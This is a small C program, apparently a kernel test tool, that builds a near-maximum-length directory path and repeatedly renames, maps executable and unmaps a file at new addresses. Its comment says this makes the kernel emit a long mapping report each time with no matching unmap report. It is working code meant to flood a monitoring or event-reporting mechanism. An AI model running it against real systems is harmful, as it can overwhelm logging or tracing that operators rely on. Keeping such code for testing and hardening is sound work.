// SPDX-License-Identifier: GPL-2.0-only
/*
 * Maps and unmaps a file under ever new names of almost 4 KB, each at the next address. The kernel
 * reports each mapping, with its path, and no unmapping.
 *
 *   attack-map-names SECONDS
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define PAGE 4096ull
#define FIRST 0x200000000000ull
#define FOLDERS 15

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Enters a folder whose path is almost as long as a path can be. */
static int enter_deep(void)
{
	char folder[] = "/tmp/attack-XXXXXX", name[251];

	if (!mkdtemp(folder) || chdir(folder) < 0)
		return -1;
	memset(name, 'n', 250);
	name[250] = 0;
	for (int i = 0; i < FOLDERS; i++)
		if (mkdir(name, 0700) < 0 || chdir(name) < 0)
			return -1;
	return 0;
}

int main(int argc, char **argv)
{
	double end = now() + (argc > 1 ? atof(argv[1]) : 10);
	char name[2][64] = { "file", "" };
	int fd;

	if (enter_deep() < 0)
		return 1;
	fd = open(name[0], O_RDWR | O_CREAT, 0700);
	if (fd < 0 || ftruncate(fd, PAGE) < 0)
		return 1;
	for (unsigned long i = 1; now() < end; i++) {
		void *at = (void *)(FIRST + i * 2 * PAGE);

		snprintf(name[i % 2], sizeof(name[0]), "file-%lu", i);
		if (rename(name[(i + 1) % 2], name[i % 2]) < 0 ||
		    mmap(at, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0) ==
			    MAP_FAILED)
			return 1;
		munmap(at, PAGE);
	}
	for (int i = 0; i < 2; i++)
		unlink(name[i]);
	return 0;
}
